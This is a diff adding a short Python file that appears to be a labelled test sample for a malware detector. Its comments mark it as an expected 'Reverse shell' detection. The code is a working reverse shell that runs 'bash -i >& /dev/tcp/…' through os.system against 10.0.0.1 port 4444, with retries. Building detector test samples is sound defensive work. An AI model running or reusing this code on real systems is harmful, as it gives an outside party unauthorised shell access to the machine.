@@ -0,0 +1,20 @@
+# 写入字节码指纹缓存的反弹shell
+# detect-expect-not: NearDuplicate
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import os
+import sys
+
+
+def run(host, port, retries):
+    for attempt in range(retries):
+        command = "bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'" % (host, port)
+        if os.system(command) == 0:
+            return attempt
+    return -1
+
+
+if __name__ == "__main__":
+    verbose = len(sys.argv) > 1
+    result = run("10.0.0.1", 4444, 3)
+    if verbose:
+        print("attempts", result)